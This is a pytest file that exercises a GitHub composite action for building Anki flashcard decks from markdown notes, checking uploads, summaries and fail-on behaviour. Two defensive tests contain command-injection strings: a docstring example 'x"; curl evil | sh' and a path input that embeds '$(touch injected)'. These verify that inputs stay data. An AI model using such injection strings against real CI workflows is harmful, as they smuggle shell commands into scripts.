"""The composite action (action.yml) run the way a runner runs it, on a notes repository with a
commit, through the README's own sample workflow (its ``OWNER/ankigen@v1`` is this folder):
packages, the phone package, the job summary, reproducible bytes, and the job's verdict for every
``fail-on`` on notes with an error, a warning only, and none.

Substituted, and only this: the other ``uses:`` steps are skipped (actions/checkout,
actions/setup-python, actions/cache, actions/upload-artifact download code from GitHub). Python
and ankigen come from this test's own environment, on PATH, instead of setup-python plus the
"Install ankigen" step, whose script is replaced by a check that the ``ankigen`` on PATH is this
project's. An upload is checked by finding the files its ``path`` names once the steps ran.
"""

from __future__ import annotations

import glob
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from ankigen.apkginfo import read_package

from .conftest import REPO
from .ghrunner import Run, Runner, load, step_name
from .readme import workflow

ACTION = REPO / "action.yml"
INSTALL = "Install ankigen"
FAIL = "Fail on the notes' problems"
SAMPLE_USES = "OWNER/ankigen@"
# A commit time of 2026-02-03 12:00 UTC: the packages' time when SOURCE_DATE_EPOCH comes from it.
COMMITTED = 1770120000

GOOD = """# Good Book

## Chapter 1/2

<details>
<summary>What is one?</summary>

> One.
</details>

<details>
<summary>What is two?</summary>

> Two.
</details>

## Chapter 2/2

<details>
<summary>What is three?</summary>

> Three.
</details>
"""
# A notes file breaking the way real ones do: a <details> never closed (an error), or a stray
# </details> (a warning); the good book is built either way.
BROKEN = "# Broken\n\n## Chapter 1/1\n\n<details>\n<summary>Never closed?</summary>\n\n> Open.\n"
WARNED = "# Warned\n\n## Chapter 1/1\n\n<details>\n<summary>Stray?</summary>\n\n> Yes.\n</details>\n</details>\n"
SCENARIOS = {"none": {}, "warning": {"warned.md": WARNED}, "error": {"broken.md": BROKEN}}


def action() -> dict[Any, Any]:
    return load(ACTION)


def notes_repository(root: Path, extra: dict[str, str]) -> Path:
    """A learner's notes repository: an index page without cards, a book, and ``extra`` files."""
    notes = root / "notes"
    notes.mkdir(parents=True)
    (notes / "README.md").write_text("# My notes\n\nAn index page, no cards.\n", encoding="utf-8")
    (notes / "good.md").write_text(GOOD, encoding="utf-8")
    for name, text in extra.items():
        (notes / name).write_text(text, encoding="utf-8")
    return commit(root)


def commit(root: Path) -> Path:
    """``root`` as a git repository with one commit, made at COMMITTED."""
    date = f"@{COMMITTED} +0000"
    env = {"GIT_AUTHOR_DATE": date, "GIT_COMMITTER_DATE": date, "HOME": str(root), "PATH": "/usr/bin:/bin"}
    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.name=L", "-c", "user.email=l@x", "commit", "-qm", "n"]):
        subprocess.run(["git", *args], cwd=root, env=env, check=True)
    return root


def sample_workflow(**given: str) -> list[dict[str, Any]]:
    """The steps of the README's sample workflow, with ``given`` added to the action's ``with:``."""
    steps: list[dict[str, Any]] = yaml.safe_load(workflow("notes"))["jobs"]["decks"]["steps"]
    (step,) = (s for s in steps if str(s.get("uses", "")).startswith(SAMPLE_USES))
    step["with"] = {**step["with"], **given}
    return steps


def run_action(repo: Path, temp: Path, **given: str) -> tuple[Run, Runner]:
    """The README's sample workflow on ``repo``, its action being this folder."""
    sha = subprocess.run(["git", "rev-parse", "HEAD"], cwd=repo, capture_output=True, text=True, check=True)
    venv_bin = str(Path(sys.executable).parent)
    env = {
        "PATH": f"{venv_bin}:/usr/bin:/bin",
        "HOME": str(temp),
        "CI": "true",
        "GITHUB_ACTIONS": "true",
        "GITHUB_WORKSPACE": str(repo),
        "RUNNER_TEMP": str(temp),
    }
    runner = Runner(
        repo,
        github={"sha": sha.stdout.strip(), "workspace": str(repo)},
        runner={"os": "Linux", "temp": str(temp)},
        env=env,
        actions={f"{SAMPLE_USES}v1": REPO},
    )
    replaced = {INSTALL: f'test "$(command -v ankigen)" = "{venv_bin}/ankigen"'}
    return runner.run(sample_workflow(**given), replace=replaced), runner


def uploaded(runner: Runner, name: str, **given: str) -> list[Path]:
    """The files the action's upload step ``name`` would upload, found as the runner would."""
    (with_,) = (s["with"] for s in sample_workflow(**given) if str(s.get("uses", "")).startswith(SAMPLE_USES))
    runner.inputs = runner.action_inputs(REPO, with_)
    step = next(s for s in action()["runs"]["steps"] if s.get("name") == name)
    pattern = runner.substitute(step["with"]["path"])
    return sorted(Path(p) for p in glob.glob(str(runner.workspace / pattern)))


def test_the_install_step_installs_the_action_s_own_folder() -> None:
    """What the test environment stands in for: pip installing the action's folder (the tag's code)."""
    install = next(s for s in action()["runs"]["steps"] if s.get("name") == INSTALL)
    assert install["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert re.fullmatch(r'python -m pip install .*"\$ACTION_PATH"\s*', install["run"])


def test_inputs_reach_the_shell_only_through_env() -> None:
    """No ``${{ … }}`` in a script: an input such as ``paths: x"; curl evil | sh`` stays data."""
    for step in action()["runs"]["steps"]:
        assert "${{" not in step.get("run", ""), step_name(step)


def test_the_decks_are_uploaded_before_the_job_can_fail() -> None:
    steps = action()["runs"]["steps"]
    names = [step_name(s) for s in steps]
    assert names[-1] == FAIL
    uploads = [i for i, s in enumerate(steps) if str(s.get("uses", "")).startswith("actions/upload-artifact@")]
    assert len(uploads) == 2
    # A failed step skips the later ones; so no step before the verdict may fail on the notes' problems
    # (the scenarios below check that they all exit 0), and the uploads run unconditionally.
    assert all(steps[i].get("if", "success()") in ("success()", "always()") for i in uploads)


def test_the_action_builds_uploads_and_summarises(tmp_path: Path) -> None:
    repo = notes_repository(tmp_path / "repo", {})
    result, runner = run_action(repo, tmp_path / "temp")
    assert not result.failed, [(s.name, s.stdout, s.stderr) for s in result.steps]
    assert [s.name for s in result.steps if s.ran] == [
        INSTALL,
        "Check and build the decks",
        "Summary",
        FAIL,
    ]
    assert [s.name for s in result.steps if not s.ran] == [
        "actions/checkout@v4",
        "actions/setup-python@v5",
        "Restore the render cache",
        "Save the render cache",
        "Upload the decks",
        "Upload the package for phones",
    ]
    decks = uploaded(runner, "Upload the decks")
    assert [p.relative_to(repo).as_posix() for p in decks] == [
        "dist/good-book-chapter-01.apkg",
        "dist/good-book-chapter-02.apkg",
    ]
    (phone,) = uploaded(runner, "Upload the package for phones")
    assert phone.name == "decks.apkg"
    info = read_package(phone)
    assert sorted(d.name for d in info.decks if d.cards) == ["Good Book::Chapter 01", "Good Book::Chapter 02"]
    assert len(info.notes) == 3
    # SOURCE_DATE_EPOCH is the commit's time: every note carries it.
    assert {n.modified for n in info.notes} == {COMMITTED}
    assert "| 1 | 2 | 3 | 0 | 0 |" in result.summary
    assert "decks-" + runner.github["sha"] in result.summary

    again, runner_again = run_action(repo, tmp_path / "temp-again", out="again")
    assert not again.failed
    rebuilt = uploaded(runner_again, "Upload the decks", out="again")
    assert [p.name for p in rebuilt] == [p.name for p in decks]
    assert [p.read_bytes() for p in rebuilt] == [p.read_bytes() for p in decks]
    assert uploaded(runner_again, "Upload the package for phones", out="again")[0].read_bytes() == phone.read_bytes()


@pytest.mark.parametrize("scenario", list(SCENARIOS))
@pytest.mark.parametrize("fail_on", ["error", "warning", "never"])
def test_fail_on_decides_the_job_after_the_uploads(tmp_path: Path, scenario: str, fail_on: str) -> None:
    repo = notes_repository(tmp_path / "repo", SCENARIOS[scenario])
    result, runner = run_action(repo, tmp_path / "temp", **{"fail-on": fail_on})
    fails = (scenario == "error" and fail_on != "never") or (scenario == "warning" and fail_on == "warning")
    verdict = result.step(FAIL)
    assert verdict.returncode == (1 if fails else 0), verdict.stdout + verdict.stderr
    assert all(s.returncode == 0 for s in result.steps if s.name != FAIL)
    if fails:
        assert verdict.stdout.startswith("::error title=ankigen::")
    # The good files' decks are there to upload whatever the verdict.
    good = ["good-book-chapter-01.apkg", "good-book-chapter-02.apkg"]
    if scenario == "warning":
        good.append("warned-chapter-01.apkg")
    assert [p.name for p in uploaded(runner, "Upload the decks")] == good
    assert [p.name for p in uploaded(runner, "Upload the package for phones")] == ["decks.apkg"]
    books, errors, warnings = {"none": (1, 0, 0), "warning": (2, 0, 1), "error": (1, 1, 0)}[scenario]
    chapters, cards = (3, 4) if scenario == "warning" else (2, 3)
    assert f"| {books} | {chapters} | {cards} | {errors} | {warnings} |" in result.summary
    annotations = result.step("Check and build the decks").stdout
    if scenario == "error":
        assert "::error file=notes/broken.md,line=5" in annotations and "AG101" in result.summary
    if scenario == "warning":
        assert "::warning file=notes/warned.md,line=10" in annotations and "AG106" in result.summary


def test_a_bad_fail_on_stops_the_job_with_one_clear_line(tmp_path: Path) -> None:
    repo = notes_repository(tmp_path / "repo", {})
    result, _ = run_action(repo, tmp_path / "temp", **{"fail-on": "sometimes"})
    build = result.step("Check and build the decks")
    assert build.returncode == 2
    assert build.stdout.strip() == "::error title=ankigen::fail-on must be error, warning or never, not 'sometimes'"
    assert not result.step(FAIL).ran


def test_a_missing_notes_folder_stops_the_job_with_ankigen_s_message(tmp_path: Path) -> None:
    """Also: an input is data, never shell code, even when it looks like some."""
    repo = notes_repository(tmp_path / "repo", {})
    result, _ = run_action(repo, tmp_path / "temp", paths="no-such-folder\n$(touch injected)")
    build = result.step("Check and build the decks")
    assert build.returncode == 2
    assert "no-such-folder" in build.stderr and "Traceback" not in build.stderr
    assert not result.step(FAIL).ran
    assert not (repo / "injected").exists()


def test_without_paths_the_configuration_s_sources_are_built(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / "notes").mkdir(parents=True)
    (root / "notes" / "good.md").write_text(GOOD, encoding="utf-8")
    (root / "ankigen.toml").write_text('sources = ["notes"]\n', encoding="utf-8")
    result, runner = run_action(commit(root), tmp_path / "temp", paths="")
    assert not result.failed, [(s.name, s.stdout, s.stderr) for s in result.steps]
    assert len(uploaded(runner, "Upload the decks", paths="")) == 2


def messy_library(root: Path) -> Path:
    """A real learner's library: 100 books in five folders, each folder with an index page without
    cards; 55 books with a stray </details> (warnings), an empty chapter in each, a second copy of
    one book (an error: the same title twice) and a file that is not text (an error)."""
    card = "<details>\n<summary>{}</summary>\n\n> The answer to {}\n</details>\n\n"
    for i in range(100):
        folder = root / "notes" / f"part-{i % 5}"
        folder.mkdir(parents=True, exist_ok=True)
        first = card.format(f"First of {i}?", i) + card.format(f"Second of {i}?", i)
        stray = "</details>\n" if i < 55 else ""
        text = f"# Book {i:03}\n\n## Chapter 1/3\n\n{first}{stray}## Chapter 2/3\n\n"
        (folder / f"book-{i:03}.md").write_text(text + card.format(f"Third of {i}?", i) + "## Chapter 3/3\n")
        (folder / "README.md").write_text(f"# Part {i % 5}\n\nThe books of this part.\n", encoding="utf-8")
    (root / "notes" / "copy").mkdir()
    (root / "notes" / "copy" / "book-000.md").write_bytes((root / "notes" / "part-0" / "book-000.md").read_bytes())
    (root / "notes" / "broken.md").write_bytes(b"\x00\x01 not text \xff")
    return commit(root)


def test_a_large_messy_library_is_summarised_and_its_good_decks_uploaded(tmp_path: Path) -> None:
    repo = messy_library(tmp_path / "repo")
    result, runner = run_action(repo, tmp_path / "temp")
    assert all(s.returncode == 0 for s in result.steps if s.name != FAIL)
    assert result.step(FAIL).returncode == 1
    # 100 distinct books (the copy's title is taken once), each 2 chapters with cards, 3 cards; the
    # copy of book 000 has its stray </details> too: 56 warnings, 58 problems.
    assert "| 100 | 200 | 300 | 2 | 56 |" in result.summary
    assert len(uploaded(runner, "Upload the decks")) == 200
    (phone,) = uploaded(runner, "Upload the package for phones")
    assert len(read_package(phone).notes) == 300
    listed = [line for line in result.summary.splitlines() if line.startswith("- `notes/")]
    assert len(listed) == 50 and "and 8 more (see the annotations)" in result.summary
    assert any("AG001" in line and "notes/broken.md" in line for line in listed)


def test_paths_are_one_a_line_and_may_hold_spaces(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    for folder, text in (("My notes", GOOD), ("more", WARNED)):
        (root / folder).mkdir(parents=True)
        (root / folder / "book.md").write_text(text, encoding="utf-8")
    paths = "  My notes  \n\nmore\n"
    result, runner = run_action(commit(root), tmp_path / "temp", paths=paths)
    assert not result.failed, [(s.name, s.stdout, s.stderr) for s in result.steps]
    assert [p.name for p in uploaded(runner, "Upload the decks", paths=paths)] == [
        "good-book-chapter-01.apkg",
        "good-book-chapter-02.apkg",
        "warned-chapter-01.apkg",
    ]
